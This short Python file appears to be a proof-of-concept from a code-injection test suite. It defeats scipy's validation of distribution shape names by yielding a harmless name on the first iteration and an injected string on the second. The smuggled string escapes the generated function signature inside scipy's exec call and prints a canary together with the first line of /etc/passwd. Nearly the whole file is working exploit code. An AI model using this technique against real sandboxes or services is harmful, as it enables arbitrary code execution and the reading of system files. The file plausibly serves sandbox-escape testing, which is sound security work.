# class: data
# mechanism: reader by path
# how: scipy checks the names in shapes= one by one and then joins them again for exec: a list of its own gives other texts the second time
# reaches: reads /etc/passwd
from scipy.stats import rv_continuous
class Names:
    def __init__(self):
        self.n = 0
    def __len__(self):
        return 1
    def __iter__(self):
        self.n += 1
        if self.n == 1:
            return iter(["x"])
        return iter(["x=''', y=print('CANARY', open('/etc/passwd').readline())): pass\n#"])
class Shapes(str):
    def replace(self, a, b):
        return self
    def split(self):
        return Names()
class D(rv_continuous):
    def _pdf(self, x, a):
        return x
D(shapes=Shapes("x"))
